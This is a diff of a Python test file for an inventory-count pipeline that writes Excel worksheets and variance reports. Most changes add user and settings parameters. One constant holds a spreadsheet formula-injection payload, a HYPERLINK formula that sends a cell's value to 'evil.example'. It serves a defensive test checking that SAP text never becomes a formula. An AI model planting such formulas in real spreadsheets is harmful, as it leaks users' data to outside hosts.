@@ -7,18 +7,16 @@ from datetime import date
 
 import openpyxl
 import pytest
-from test_counting_support import AT, MON, WED, add_material, add_stock
+from counting_support import AT, MON, WED, add_material, add_stock
 
+from pipelines.access import User
 from pipelines.counting.records import add_count
 from pipelines.counting.schedule import add_to_schedule
 from pipelines.ingest.load import load_file
-from pipelines.reports.worksheets import (
-    HEADER_ROW,
-    worksheet_lines,
-    write_variance_report,
-    write_worksheets,
-)
+from pipelines.reports.variance_report import write_variance_report
+from pipelines.reports.worksheets import HEADER_ROW, worksheet_lines, write_worksheets
 from pipelines.sap.headers import ExportKind, match_header
+from pipelines.settings import get_settings
 from pipelines.warehouse.db import fetch, query, warehouse
 
 EVIL_DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -34,10 +32,12 @@ def planned(wics_home):
         add_stock(con, MON, "10000001", sloc="0002", unrestricted=10, blocked=2)
         add_stock(con, MON, "@RISK", sloc="0001", unrestricted=7)
         add_count(con, count_date=MON, material="10000001", plant="1000", quantity=None,
-                  location="R01-A", storage_location="0001", entered_by="t", entered_at=AT)
+                  location="R01-A", storage_location="0001", user=User.system("t"), entered_at=AT,
+                  settings=get_settings())
         for material, counter in (("10000001", "ANA"), ("-5X", "ANA"), ("@RISK", "BEN")):
-            add_to_schedule(con, count_date=WED, material=material, plant="1000",
-                            counter=counter, reason="cycle")
+            add_to_schedule(con, user=User.system(), count_date=WED, material=material,
+                            plant="1000",
+                            counter=counter, reason="cycle", settings=get_settings())
     return wics_home
 
 
@@ -48,7 +48,7 @@ def _rows(path):
 
 def test_worksheets_by_counter_are_blind_and_loader_readable(planned, tmp_path):
     with warehouse() as con:
-        paths = write_worksheets(con, WED, tmp_path / "sheets")
+        paths = write_worksheets(con, WED, tmp_path / "sheets", config=get_settings().counting)
     assert [p.name for p in paths] == ["count_2026-11-04_ANA.xlsx", "count_2026-11-04_BEN.xlsx"]
     sheet, rows = _rows(paths[0])
     header = rows[HEADER_ROW - 1]
@@ -68,7 +68,7 @@ def test_worksheets_by_counter_are_blind_and_loader_readable(planned, tmp_path):
 
 def test_text_from_sap_never_becomes_a_formula(planned, tmp_path):
     with warehouse() as con:
-        path = write_worksheets(con, WED, tmp_path, blind=False)[0]
+        path = write_worksheets(con, WED, tmp_path, blind=False, config=get_settings().counting)[0]
     with zipfile.ZipFile(path) as book:
         xml = book.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
@@ -82,7 +82,7 @@ def test_text_from_sap_never_becomes_a_formula(planned, tmp_path):
 
 def test_sap_quantities_only_on_open_worksheets(planned, tmp_path):
     with warehouse() as con:
-        path = write_worksheets(con, WED, tmp_path, blind=False)[0]
+        path = write_worksheets(con, WED, tmp_path, blind=False, config=get_settings().counting)[0]
     _, rows = _rows(path)
     header = rows[HEADER_ROW - 1]
     assert "SAP Qty" in header and match_header(header).kind is ExportKind.COUNT_SHEET
@@ -93,7 +93,7 @@ def test_sap_quantities_only_on_open_worksheets(planned, tmp_path):
 
 def test_filled_in_worksheet_loads_back_through_the_count_sheet_loader(planned, tmp_path):
     with warehouse() as con:
-        path = write_worksheets(con, WED, tmp_path / "printed")[0]
+        path = write_worksheets(con, WED, tmp_path / "printed", config=get_settings().counting)[0]
     book = openpyxl.load_workbook(path)
     sheet = book.active
     header = [c.value for c in sheet[HEADER_ROW]]
@@ -141,8 +141,9 @@ def test_filled_in_worksheet_loads_back_through_the_count_sheet_loader(planned, 
 
 def test_worksheets_by_storage_location(planned, tmp_path):
     with warehouse() as con:
-        lines = worksheet_lines(con, WED, by="location")
-        paths = write_worksheets(con, WED, tmp_path, by="location", spare_lines=0)
+        lines = worksheet_lines(con, WED, by="location", config=get_settings().counting)
+        paths = write_worksheets(con, WED, tmp_path, by="location", spare_lines=0,
+                                 config=get_settings().counting)
     by_sheet = {s: sorted(g["material"].to_list()) for (s,), g in lines.group_by("sheet")}
     assert by_sheet == {"0001": ["10000001", "@RISK"], "0002": ["10000001"],
                         "unassigned": ["-5X"]}
@@ -157,18 +158,21 @@ def test_worksheets_by_storage_location(planned, tmp_path):
 def test_counted_lines_are_not_printed_again(planned, tmp_path):
     with warehouse() as con:
         add_count(con, count_date=WED, material="@RISK", plant="1000", quantity="7",
-                  entered_by="t", entered_at=AT)
-        assert write_worksheets(con, WED, tmp_path) == [tmp_path / "count_2026-11-04_ANA.xlsx"]
-        again = write_worksheets(con, WED, tmp_path / "all", include_counted=True)
+                  user=User.system("t"), entered_at=AT, settings=get_settings())
+        assert write_worksheets(con, WED, tmp_path, config=get_settings().counting) == [
+            tmp_path / "count_2026-11-04_ANA.xlsx"]
+        again = write_worksheets(con, WED, tmp_path / "all", include_counted=True,
+                                 config=get_settings().counting)
     assert len(again) == 2
 
 
 def test_variance_report_for_managers(planned, tmp_path):
     with warehouse() as con:
         add_count(con, count_date=WED, material="10000001", plant="1000", quantity="40",
-                  entered_by="t", entered_at=AT, movement_during_count=True)
+                  user=User.system("t"), entered_at=AT, movement_during_count=True,
+                  settings=get_settings())
         add_count(con, count_date=WED, material="@RISK", plant="1000", quantity="7",
-                  entered_by="t", entered_at=AT)
+                  user=User.system("t"), entered_at=AT, settings=get_settings())
         path = write_variance_report(con, tmp_path / "variance.xlsx", start=MON,
                                      end=date(2026, 11, 6))
     book = openpyxl.load_workbook(path)
